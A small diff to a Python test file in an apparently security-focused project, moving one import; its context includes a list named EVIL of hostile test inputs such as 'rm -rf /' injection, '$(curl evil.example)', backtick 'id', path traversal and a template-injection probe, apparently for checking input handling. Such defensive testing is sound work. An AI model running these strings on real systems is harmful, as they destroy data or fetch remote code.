@@ -7,6 +7,7 @@ from dataclasses import replace
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from tests.telling import asset, documented, finding, told, triaged
 
 from isthmus.graph.identity import names_of
 from isthmus.intake.normalise import normalise
@@ -14,7 +15,6 @@ from isthmus.model.assets import Asset, AssetKind
 from isthmus.model.findings import Kind
 from isthmus.model.severity import Severity
 from isthmus.plan.targets import target_of
-from tests.telling import asset, documented, finding, told, triaged
 
 EVIL = ['x"; rm -rf / #', "$(curl evil.example)", "a b", "..", "`id`", "x\ny", "-rf", "bucket}}{{7*7}}", "ünï"]
 
